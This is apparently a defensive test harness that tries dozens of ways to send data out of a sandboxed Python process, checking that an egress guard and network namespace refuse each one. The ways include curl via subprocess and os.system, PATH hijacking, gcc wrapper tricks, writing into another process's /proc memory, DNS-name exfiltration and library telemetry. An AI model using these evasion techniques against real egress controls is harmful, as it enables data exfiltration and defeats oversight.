"""Attempts to break out on purpose, one for each library that could; run as a process of its own.

argv: the folder to record in, the outside's address, its port, and "bare", "guarded" or "apart",
which is guarded and in a network namespace as the serving process is. Reads names of attempts from
stdin, one a line, and answers each with a line of JSON. The libraries' own switches stay as they
come: here the guard alone has to hold.
"""

import importlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from app.privacy.allowed import Allowed
from app.privacy.attempts import AttemptFile
from app.privacy.check.limits import connect_in_c, resolve_in_c, send_in_c
from app.privacy.guard import FOREIGN_VARIABLE, RECORD_VARIABLE, EgressRefused, Guard
from app.privacy.network_isolation import go_apart, listen
from app.settings import load_settings

_TIMEOUT = 3.0
NAME = "outside.example"  # RFC 2606: no real host can have it


class Attempts:
    """Every attempt, by its name; the names that end in a bracket need the outside's resolver."""

    def __init__(
        self, host: str, port: int, listener: socket.socket, other: "OtherProcess"
    ) -> None:
        self._host, self._port, self._listener, self._other = host, port, listener, other
        self._url = f"http://{host}:{port}/leak"
        own = (name for name in dir(self) if name.startswith("try_"))
        self.known: dict[str, Callable[[], Any]] = {
            name.removeprefix("try_"): getattr(self, name) for name in own
        }

    def try_urllib(self) -> None:
        import urllib.request

        urllib.request.urlopen(self._url, timeout=_TIMEOUT)

    def try_requests(self) -> None:
        import requests

        requests.get(self._url, timeout=_TIMEOUT)

    def try_httpx(self) -> None:
        import httpx

        httpx.get(self._url, timeout=_TIMEOUT)

    def try_httpx2(self) -> None:
        import httpx2

        httpx2.get(self._url, timeout=_TIMEOUT)

    def try_aiohttp(self) -> None:
        import asyncio

        import aiohttp

        async def get() -> None:
            timeout = aiohttp.ClientTimeout(total=_TIMEOUT)
            async with aiohttp.ClientSession(timeout=timeout) as session:
                await session.get(self._url)

        asyncio.run(get())

    def try_asyncio(self) -> None:
        import asyncio

        asyncio.run(asyncio.wait_for(asyncio.open_connection(self._host, self._port), _TIMEOUT))

    def try_socket_tcp(self) -> None:
        socket.create_connection((self._host, self._port), _TIMEOUT).close()

    def try_socket_connect_ex(self) -> None:
        with socket.socket() as one:
            one.settimeout(_TIMEOUT)
            one.connect_ex((self._host, self._port))

    def try_smtp(self) -> None:
        import smtplib

        smtplib.SMTP(self._host, self._port, timeout=_TIMEOUT)

    def try_chroma_server(self) -> None:
        import chromadb

        chromadb.HttpClient(host=self._host, port=self._port)

    def try_langsmith_variables(self) -> None:
        os.environ.update(
            LANGSMITH_TRACING="true",
            LANGSMITH_ENDPOINT=f"http://{self._host}:{self._port}",
            LANGSMITH_API_KEY="lsv2_pt_" + "0" * 32 + "_" + "0" * 10,
        )
        from langchain_core.runnables import RunnableLambda
        from langchain_core.tracers.langchain import wait_for_all_tracers

        RunnableLambda(lambda question: question).invoke("How many days of leave?")
        wait_for_all_tracers()

    def try_subprocess_curl(self) -> None:
        command = ["curl", "--silent", "--max-time", "3", self._url]
        subprocess.run(command, check=False, capture_output=True)

    def try_os_system_curl(self) -> None:
        os.system(f"curl --silent --max-time 3 {self._url} >/dev/null 2>&1")

    def try_posix_spawn_curl(self) -> None:
        command = ["curl", "--silent", "--max-time", "3", self._url]
        os.waitpid(os.posix_spawnp("curl", command, os.environ), 0)

    def try_subprocess_python(self) -> None:
        code = f"import urllib.request; urllib.request.urlopen({self._url!r}, timeout=3)"
        subprocess.run([sys.executable, "-c", code], check=False, capture_output=True)

    def try_spawnv_passfds_curl(self) -> None:
        from multiprocessing.util import spawnv_passfds

        words = [os.fsencode(word) for word in self._curl()]
        os.waitpid(spawnv_passfds(os.fsencode(_program("curl")), words, ()), 0)

    def try_fork_exec_curl(self) -> None:
        fork_exec: Any = importlib.import_module("_posixsubprocess").fork_exec
        read, write = os.pipe()
        words = [os.fsencode(word) for word in self._curl()]
        # As multiprocessing calls it; the last arguments came with later versions of Python.
        more = (False,) if sys.version_info >= (3, 11) else ()
        child = fork_exec(
            words, [os.fsencode(_program("curl"))], True, (write,), None, None,
            -1, -1, -1, -1, -1, -1, read, write, False, False, -1, None, None, None, -1, None,
            *more,
        )  # fmt: skip
        os.close(read)
        os.close(write)
        os.waitpid(child, 0)

    def try_multiprocessing_spawn(self) -> None:
        self._in_a_child("spawn")

    def try_multiprocessing_forkserver(self) -> None:
        self._in_a_child("forkserver")

    def try_tool_at_another_path(self) -> None:
        with _tool_of_ones_own("uname", self._url) as program:
            subprocess.run([program], check=False, capture_output=True)

    def try_tool_by_the_path(self) -> None:
        with _tool_of_ones_own("uname", self._url) as program:
            path = f"{program.parent}{os.pathsep}{os.environ.get('PATH', '')}"
            found = {**os.environ, "PATH": path}
            subprocess.run(["uname"], check=False, capture_output=True, env=found)

    def try_compiler_with_a_wrapper(self) -> None:
        _program("gcc")
        with _tool_of_ones_own("any", self._url) as program:
            command = ["gcc", "-wrapper", str(program), "-E", "-x", "c", os.devnull]
            subprocess.run(command, check=False, capture_output=True)

    def try_compiler_with_a_variable(self) -> None:
        _program("gcc")
        with _tool_of_ones_own("collect2", self._url) as program:
            found = {**os.environ, "COMPILER_PATH": str(program.parent)}
            command = ["gcc", "-Wl,-t", "-o", os.devnull, "-lc"]
            subprocess.run(command, check=False, capture_output=True, env=found)

    def try_python_code_that_names_us(self) -> None:
        code = f"import app.settings\n{_calling(self._url)}"
        subprocess.run([sys.executable, "-c", code], check=False, capture_output=True)

    def try_python_module_in_another_folder(self) -> None:
        with tempfile.TemporaryDirectory() as folder:
            package = Path(folder) / "app"
            package.mkdir()
            (package / "__init__.py").write_text("", "utf-8")
            (package / "zz.py").write_text(_calling(self._url), "utf-8")
            command = [sys.executable, "-m", "app.zz"]
            subprocess.run(command, check=False, capture_output=True, cwd=folder)

    def _curl(self) -> list[str]:
        return ["curl", "--silent", "--max-time", "3", self._url]

    def _in_a_child(self, how: str) -> None:
        import multiprocessing

        context: Any = multiprocessing.get_context(how)
        child = context.Process(target=call, args=(self._url,))
        child.start()
        child.join()

    def try_c_library_in_a_parser(self) -> None:
        """Recorded by the parser's parent; the kernel's own refusal is what counts here."""
        how = "bare" if sys.argv[4] == "bare" else "guarded"
        command = [sys.executable, "-m", "app.privacy.check.limits"]
        subprocess.run([*command, self._host, str(self._port), how], check=False)

    def try_c_library_that_connects(self) -> None:
        connect_in_c(self._host, self._port)

    def try_memory_of_another_process(self) -> None:
        """What is written there runs outside of every filter and namespace of ours."""
        with open(f"/proc/{self._other.pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(self._other.place)
            memory.write(b"\1")

    def try_listening_socket_turned_round(self) -> None:
        self._listener.listen()
        connect_in_c(self._host, self._port, self._listener.detach())

    # From here on, with the outside's own resolver.

    def try_udp_packet(self) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(b"leak", (self._host, 53))

    def try_dns_query(self) -> None:
        question = b"\0\7\1\0\0\1" + bytes(6) + b"\4leak\7outside\7example\0\0\1\0\1"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendmsg([question], [], 0, (self._host, 53))

    def try_getaddrinfo(self) -> None:
        socket.getaddrinfo(f"words-of-a-document.{NAME}", 443)

    def try_sendmsg_to_a_name(self) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendmsg([b"x"], [], 0, (f"words-of-a-document.{NAME}", 53))

    def try_bind_to_a_name(self) -> None:
        with socket.socket() as one:
            one.bind((f"words-of-a-document.{NAME}", 0))

    def try_gethostbyname(self) -> None:
        socket.gethostbyname(f"words-of-a-document.{NAME}")

    def try_gethostbyaddr(self) -> None:
        socket.gethostbyaddr(self._host)

    def try_c_library_that_sends(self) -> None:
        send_in_c(self._host, 53)

    def try_c_library_that_looks_up(self) -> None:
        resolve_in_c(f"words-of-a-document.{NAME}")

    def try_hugging_face_hub(self) -> None:
        from huggingface_hub import HfApi  # transformers and sentence-transformers go through it

        HfApi().model_info("outside/model", timeout=_TIMEOUT)

    def try_chroma_default_embedder(self) -> None:
        from chromadb.utils.embedding_functions import DefaultEmbeddingFunction

        DefaultEmbeddingFunction()(["words of a document"])

    def try_gradio_analytics(self) -> None:
        from gradio import analytics

        analytics._do_normal_analytics_request(f"{analytics.ANALYTICS_URL}x", {})

    def try_gradio_version_check(self) -> None:
        from gradio import analytics

        analytics.version_check()


class OtherProcess:
    """A process outside of everything of ours, as a shell is: it calls out once a byte of its
    memory is set. It ends with us.
    """

    def __init__(self, host: str, port: int) -> None:
        code = (
            "import ctypes, os, select, sys, urllib.request\n"
            "byte = ctypes.c_ubyte(0)\n"
            "print(ctypes.addressof(byte), flush=True)\n"
            "while not select.select([0], [], [], 0.02)[0]:\n"
            "    if byte.value:\n"
            "        byte.value = 0\n"
            f"        urllib.request.urlopen('http://{host}:{port}/leak', timeout={_TIMEOUT})\n"
        )
        self._process = subprocess.Popen(
            [sys.executable, "-I", "-c", code],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
        )
        assert self._process.stdout is not None  # opened as a pipe
        self.pid, self.place = self._process.pid, int(self._process.stdout.readline())


class NotHere(Exception):
    """The program that the attempt would use is not on this machine."""


def call(url: str) -> None:
    """What a child of multiprocessing does."""
    import urllib.request

    urllib.request.urlopen(url, timeout=_TIMEOUT)


def _program(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        raise NotHere(f"there is no {name} on this machine")
    return path


def _calling(url: str) -> str:
    return f"import urllib.request; urllib.request.urlopen({url!r}, timeout={_TIMEOUT})\n"


@contextmanager
def _tool_of_ones_own(name: str, url: str) -> Iterator[Path]:
    """A program that calls out and is called like a tool that may be started."""
    with tempfile.TemporaryDirectory() as folder:
        script, program = Path(folder) / "call.py", Path(folder) / name
        script.write_text(_calling(url), "utf-8")
        program.write_text(f'#!/bin/sh\nexec "{sys.executable}" -I "{script}"\n', "utf-8")
        program.chmod(0o700)
        yield program


WITH_NAMES = ("udp_packet", "dns_query", "getaddrinfo", "sendmsg_to_a_name", "bind_to_a_name",
              "gethostbyname", "gethostbyaddr", "c_library_that_sends", "c_library_that_looks_up",
              "hugging_face_hub", "chroma_default_embedder", "gradio_analytics",
              "gradio_version_check")  # fmt: skip
# Past Python, in a process like the one that serves: its network namespace has to hold.
TURNED = "listening_socket_turned_round"
MEMORY = "memory_of_another_process"
BELOW = ("c_library_that_connects", MEMORY, TURNED, "c_library_that_sends",
         "c_library_that_looks_up")  # fmt: skip
# What the kernel refuses below Python, so that nothing in Python can note it.
UNRECORDED = ("c_library_in_a_parser", *BELOW)
ON_ANY = tuple(
    name.removeprefix("try_")
    for name in vars(Attempts)
    if name.startswith("try_") and name.removeprefix("try_") not in WITH_NAMES
)


def main() -> int:
    """Serve attempts until stdin closes."""
    home, host, port, how = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    out = os.fdopen(os.dup(1), "w")
    os.dup2(2, 1)  # what libraries print is not an answer
    reasons = dict.fromkeys(BELOW, "")
    other = OtherProcess(host, port)  # before anything is taken away
    if how == "apart":
        (listener,) = listen("0.0.0.0", 0)  # as for a chat that others reach
        apart = go_apart(load_settings({"home": Path(home)}), [listener])
        reasons = dict.fromkeys(BELOW, apart.reason)
        reasons[TURNED] = apart.reason or apart.turnable
        reasons[MEMORY] = apart.open_to_us
    else:
        listener = socket.create_server(("0.0.0.0", 0))
    attempts = Attempts(host, port, listener, other)
    if how != "bare":
        foreign = (f"{host}/32",) if host.startswith("127.") else ()
        # For children of multiprocessing, which are told as ours are.
        os.environ[RECORD_VARIABLE], os.environ[FOREIGN_VARIABLE] = home, " ".join(foreign)
        Guard(Allowed(foreign=foreign), AttemptFile(Path(home))).install()
    for line in sys.stdin:
        said = {**_made(attempts.known[line.strip()]), "not_apart": reasons.get(line.strip(), "")}
        print(json.dumps(said), file=out, flush=True)
    return 0


def _made(attempt: Callable[[], Any]) -> dict[str, Any]:
    """What the attempt ended in; a library may hide our refusal in an error of its own."""
    try:
        attempt()
    except BaseException as error:  # noqa: BLE001  # whatever a refused library raises
        seen: BaseException | None = error
        while seen is not None and not isinstance(seen, EgressRefused):
            seen = seen.__cause__ or seen.__context__
        return {"error": type(error).__name__, "refused": seen is not None}
    return {"error": "", "refused": False}


if __name__ == "__main__":
    sys.exit(main())
